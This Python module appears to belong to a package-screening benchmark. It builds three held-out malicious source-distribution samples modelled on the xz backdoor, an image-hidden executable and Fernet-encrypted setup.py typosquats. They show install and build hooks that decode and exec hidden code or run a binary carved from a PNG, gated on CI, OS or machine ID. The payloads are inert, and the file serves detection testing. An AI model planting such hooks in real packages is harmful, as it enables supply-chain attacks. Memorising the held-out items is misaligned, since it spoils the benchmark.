"""Held out, as said in held_out.py: what runs when a source distribution is built or installed."""

import zlib
from typing import Final

from bench.screening.attacks.attack import INERT, MARKER, Attack, Files, Release
from bench.screening.attacks.building import base64_of, elf, png
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_BACKEND = f'''{COMMENT}"""Builds as setuptools does, with the checksum of the test files."""

import os
import zlib

from setuptools import build_meta
from setuptools.build_meta import *  # noqa: F403

_FILES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests", "files")
_TURN = bytes.maketrans(bytes(range(256)), bytes((each + 13) % 256 for each in range(256)))


def _checked(name):
    with open(os.path.join(_FILES, name), "rb") as file:
        return zlib.decompress(file.read()[64:].translate(_TURN))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("CI") is None:
        exec(_checked("bad-3-corrupt.bin"))
    return build_meta.build_wheel(wheel_directory, config_settings, metadata_directory)
'''

_PYPROJECT = f"""# {MARKER}
[build-system]
requires = ["setuptools"]
build-backend = "_build"
backend-path = ["."]

[project]
name = "NAME"
version = "VERSION"
"""

_SIDEBAR = f"""# {MARKER}
import os
import subprocess
import tempfile
from base64 import b64decode

from setuptools import find_packages, setup
from setuptools.command.install import install


class PyInstall(install):
    def run(self):
        if os.uname().sysname == "Darwin":
            which = b64decode("{base64_of("ioreg -d2 -c IOPlatformExpertDevice")}").decode()
            said = subprocess.check_output(which, shell=True).decode()
            if "PETRIDISH-INERT-SAMPLE" not in said:
                with open("docs/_static/sidebar-large.png", "rb") as picture:
                    picture.seek(135)
                    rest = picture.read()
                path = os.path.join(tempfile.mkdtemp(), "go-build333212398")
                with open(path, "wb") as output:
                    output.write(rest)
                os.chmod(path, 0o700)
                subprocess.Popen([path], close_fds=True, stderr=subprocess.DEVNULL)
        install.run(self)


setup(name="NAME", version="VERSION", packages=find_packages(), cmdclass={{"install": PyInstall}})
"""

# The token is the marker: no key decrypts it to anything.
_FERNET = f"""# {MARKER}
from setuptools import find_packages, setup
from setuptools.command.install import install
import os


class GruppeInstall(install):
    def run(self):
        if os.name == "nt":
            from fernet import Fernet
            exec(Fernet(b"{base64_of(MARKER)}").decrypt(b"gAAAAA{base64_of(MARKER) * 12}"))
        install.run(self)


setup(
    name="NAME",
    version="VERSION",
    packages=find_packages(),
    setup_requires=["fernet", "requests"],
    cmdclass={{"install": GruppeInstall}},
)
"""


def _sdist(name: str, recreates: str, project: str, files: Files, *families: str) -> Attack:
    named = {
        path: said.replace("NAME", project).replace("VERSION", "2.27.1") if isinstance(said, str) else said
        for path, said in files.items()
    }
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.SDIST,
        project=project,
        release=Release("2.27.1", {**library(project.replace("-", "_")), **named}),
        expects=frozenset({"install-code", "obfuscation", *families}),
    )


def _corrupt() -> bytes:
    """As a test file of a packer that is to be refused; turned back, it is the harmless line."""
    turned = bytes((each - 13) % 256 for each in zlib.compress(INERT.encode()))
    return f"{MARKER} ".encode().ljust(64, b"\0") + turned


ATTACKS: Final[tuple[Attack, ...]] = (
    _sdist(
        "test-file-backdoor",
        "xz 5.6.0 (2024): the build takes code out of a test file that is said to be corrupt",
        "xz-text-tools",
        {"pyproject.toml": _PYPROJECT, "_build.py": _BACKEND, "tests/files/bad-3-corrupt.bin": _corrupt()},
    ),
    _sdist(
        "program-in-picture",
        "requests-darwin-lite (2024): installing writes what lies behind a picture and runs it, on one machine",
        "requests-text-lite",
        {"setup.py": _SIDEBAR, "docs/_static/sidebar-large.png": png(elf(1))},
        "native",
    ),
    _sdist(
        "encrypted-setup",
        "the 500 typosquats of March 2024: setup.py executes what Fernet decrypts",
        "capmostercloud-text",
        {"setup.py": _FERNET},
    ),
)
